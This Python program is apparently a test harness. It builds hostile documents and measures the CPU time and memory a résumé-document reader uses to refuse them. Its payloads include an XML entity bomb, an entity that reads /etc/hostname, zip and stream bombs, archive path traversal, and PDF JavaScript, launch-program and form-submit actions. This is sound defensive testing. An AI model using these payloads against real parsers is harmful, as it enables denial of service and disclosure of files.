"""Documents made to harm, by name; as a program: reads documents and says what each has cost.

That is the processor's seconds and the growth of the greatest resident size, in bytes, of a process
that reads this document alone: the greatest size of a process never shrinks.
"""

from __future__ import annotations

import io
import json
import os
import resource
import sys
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable

from cvs import docx, objects_pdf, odt, packed, page_pdf, pdf, pdf_with_file, shown, stream

FONTS = b"<< /Font << /F1 4 0 R >> >>"
MILLION = 1_000_000
BOMB = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><Candidate>&c;</Candidate>'
FETCHING = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><Candidate>&b;</Candidate>'


def raw_page(members: bytes, data: bytes) -> bytes:
    """Return a PDF whose page's instructions are packed as `members` say."""
    page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << >> >> >>"
    body = b"<< /Length %d %s >>\nstream\n" % (len(data), members) + data + b"\nendstream"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return objects_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, body])


def fonts_pdf(count: int, table: bytes) -> bytes:
    named = b" ".join(b"/F%d 6 0 R" % number for number in range(1, count + 1))
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 7 0 R >>"
    return page_pdf(shown(["a"]), b"<< /Font << %s >> >>" % named, (font, stream(table)))


def forms_pdf() -> bytes:
    """Return a PDF whose drawings call ten drawings each, ten levels deep."""
    calls = b" ".join(b"/X%d Do" % number for number in range(10))
    forms = []
    for level in range(10):
        below = 7 + level if level < 9 else 6
        named = b" ".join(b"/X%d %d 0 R" % (number, below) for number in range(10))
        members = b"/Type /XObject /Subtype /Form /Resources << /XObject << %s >> >>" % named
        forms.append(stream(calls, members))
    resources = b"<< /Font << /F1 4 0 R >> /XObject << /X0 6 0 R >> >>"
    return page_pdf(b"/X0 Do", resources, tuple(forms))


def quadratic_pdf() -> bytes:
    """Return a PDF with 19,000 objects in one stream of objects."""
    count = 19_000
    heads = b" ".join(b"%d %d" % (10 + at, at * 9) for at in range(count))
    members = b"/Type /ObjStm /N %d /First %d" % (count, len(heads) + 1)
    catalog = b"<< /Type /Catalog /Pages 2 0 R /X [%s] >>"
    named = b" ".join(b"%d 0 R" % at for at in range(10, 10 + count))
    bodies = [catalog % named, b"<< /Type /Pages /Kids [] /Count 0 >>"]
    bodies.append(stream(heads + b" " + b"<< /A 1>>" * count, members))
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows = [b"\0" * 7, *(b"\1" + place.to_bytes(4, "big") + b"\0\0" for place in places)]
    rows += [b"\0" * 7] * 6
    rows += [b"\2" + (3).to_bytes(4, "big") + at.to_bytes(2, "big") for at in range(count)]
    table = len(out)
    out += b"9 0 obj\n" + stream(b"".join(rows), b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % len(rows))  # fmt: skip
    return bytes(out + b"\nendobj\nstartxref\n%d\n%%%%EOF" % table)


def script(catalog: bytes) -> bytes:
    return page_pdf(shown(["Skills", "welding"]), catalog=catalog)


def twice_named() -> bytes:
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", b"<a/>")
        archive.writestr("word/document.xml", b"<b/>")
    return target.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "script at opening": lambda: script(b"/OpenAction << /S /JavaScript /JS (app.alert) >>"),
    "script by another spelling": lambda: script(
        b"/Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /J#53 (x) >>] >> >>"
    ),
    "script in an outline": lambda: script(b"/Outlines << /First << /A << /S /JavaScript >> >> >>"),
    "program to launch": lambda: script(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "form with scripts": lambda: script(b"/AcroForm << /XFA [(a) 5 0 R] >>"),
    "file to send": lambda: script(b"/AA << /O << /S /SubmitForm /F (http://a.example) >> >>"),
    "other file inside": lambda: pdf_with_file(["Skills", "welding"], "a.exe", b"MZ" * 99),
    "PDF inside": lambda: pdf_with_file(["Skills", "welding"], "a.pdf", pdf(["x"])),
    "entities in embedded XML": lambda: pdf_with_file(["a"], "attachment.xml", BOMB.encode()),
    "entities in Europass XML": BOMB.encode,
    "entity of a file": FETCHING.encode,
    "entities in UTF-16": lambda: BOMB.encode("utf-16"),
    "entities in DOCX": lambda: docx([], {"word/document.xml": BOMB.encode()}),
    "entities in ODT": lambda: odt([], {"content.xml": BOMB.encode()}),
    "deep XML": lambda: b"<?xml version='1.0'?>" + b"<Candidate>" * 200_000,
    "zip bomb": lambda: docx([], {"word/document.xml": b" " * 200 * MILLION}),
    "zip bomb beside": lambda: docx(["Skills"], {"word/media/a.png": b"\0" * 100 * MILLION}),
    "archive within": lambda: docx(["Skills"], {"word/a.zip": packed({"a": b"b"})}),
    "archive as its text": lambda: packed({"word/document.xml": packed({"a": b"b"})}),
    "path out": lambda: docx(["Skills"], {"../../evil.txt": b"x"}),
    "absolute path": lambda: docx(["Skills"], {"/etc/evil": b"x"}),
    "name twice": twice_named,
    "stream bomb": lambda: page_pdf(b" " * 80 * MILLION),
    "bomb within a bomb": lambda: raw_page(
        b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"\0" * 100 * MILLION))
    ),
    "many filters": lambda: raw_page(b"/Filter [%s]" % (b"/FlateDecode " * 12), b"x\x9c"),
    "ASCII85 at length": lambda: raw_page(b"/Filter /ASCII85Decode", b"z" * 15 * MILLION),
    "LZW at length": lambda: raw_page(b"/Filter /LZWDecode", b"\x80\x0b\x60\x50" * 3 * MILLION),
    "LZW by another spelling": lambda: raw_page(b"/Filter /#4cZW", b"\x80\x0b\x60\x50" * MILLION),
    "run lengths": lambda: raw_page(b"/Filter /RunLengthDecode", b"\x81a" * 7 * MILLION),
    "damaged stream at length": lambda: raw_page(b"/Filter /FlateDecode", b"\xff" * 10 * MILLION),
    "millions of operations": lambda: page_pdf(b"q Q " * 730_000),
    "letters one by one": lambda: page_pdf(b"BT /F1 9 Tf " + b"(a)Tj " * 119_000 + b"ET"),
    "lines without end": lambda: page_pdf(b"BT /F1 9 Tf " + b"(ab)Tj 0 -5 Td " * 58_000 + b"ET"),
    "one word without end": lambda: page_pdf(b"BT /F1 9 Tf (" + b"a" * 2_900_000 + b") Tj ET"),
    "text array without end": lambda: page_pdf(b"BT [" + b"(a)1 " * 500_000 + b"] TJ ET"),
    "deep instructions": lambda: page_pdf(b"[" * 400_000),
    "pictures in line": lambda: page_pdf(b"BI /W 1 /H 1 ID " * 100_000),
    "drawings in drawings": forms_pdf,
    "drawing of itself": lambda: page_pdf(
        b"/X0 Do",
        b"<< /XObject << /X0 6 0 R >> >>",
        (stream(b"/X0 Do", b"/Subtype /Form /Resources << /XObject << /X0 6 0 R >> >>"),),
    ),
    "letters of a font": lambda: fonts_pdf(
        1, b"begincmap 1 beginbfrange <00000000> <FFFFFFFF> <0000> endbfrange endcmap"
    ),
    "a thousand fonts": lambda: fonts_pdf(
        1000, b"begincmap 1 beginbfrange <0000> <FFFF> <0000> endbfrange endcmap"
    ),
    "pages of pages": lambda: objects_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"]
    ),
    "a page a hundred thousand times": lambda: objects_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"3 0 R " * 100_000),
            b"<< /Type /Page /Parent 2 0 R >>",
        ]
    ),
    "deep array": lambda: script(b"/X " + b"[" * 100_000 + b"]" * 100_000),
    "deep dictionary": lambda: script(b"/X " + b"<< /A " * 100_000 + b">>" * 100_000)[:-400],
    "an object that is itself": lambda: objects_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R /A 3 0 R >>", b"2 0 R", b"3 0 R"]
    ),
    "objects beyond number": lambda: objects_pdf([b"<< /Type /Catalog >>", *([b"<<>>"] * 50_000)]),
    "objects in one stream": quadratic_pdf,
    "objects all lost": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 1_900_000,
    "noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 65_000,
    "100 MB of PDF": lambda: b"%PDF-1.7\n" + b"a" * 100 * MILLION,
    "100 MB of text": lambda: b"welding " * 13 * MILLION,
    "100 MB of XML": lambda: b"<?xml version='1.0'?><Candidate>" + b"a" * 100 * MILLION,
    "100 MB of archive": lambda: b"PK\x03\x04" + b"a" * 100 * MILLION,
}
TOLERATED = frozenset({"deep dictionary"})
"""Harmless once bounded: pypdf reads past it, so the rest of the document may be read."""


def measured(data: bytes) -> dict[str, object]:
    """Return what is said of a document, the seconds that takes, and the memory it takes."""
    from guidance.errors import DocumentRefused
    from guidance.exchange.curricula.documents import read_text_document

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.process_time()
    try:
        read_text_document(data)
        said = ""
    except DocumentRefused as refusal:
        said = refusal.message
    seconds = time.process_time() - start
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return {"said": said, "seconds": seconds, "bytes": 1024 * (after - before)}


def serve() -> None:
    """Read documents, each with its length in eight bytes before it, and answer a line for each.

    Every document is read in a child of its own, forked from a process that has read a harmless
    one, so that neither loading nor another document counts.
    """
    measured(pdf(["Skills", "welding of pipes and steel frames for large ships"]))
    while head := sys.stdin.buffer.read(8):
        data = sys.stdin.buffer.read(int.from_bytes(head, "big"))
        child = os.fork()
        if child == 0:
            resource.setrlimit(resource.RLIMIT_CPU, (30, 30))
            sys.stdout.write(json.dumps(measured(data)) + "\n")
            sys.stdout.flush()
            os._exit(0)
        if os.waitpid(child, 0)[1]:
            sys.stdout.write("{}\n")
            sys.stdout.flush()
        del data


if __name__ == "__main__":
    serve()
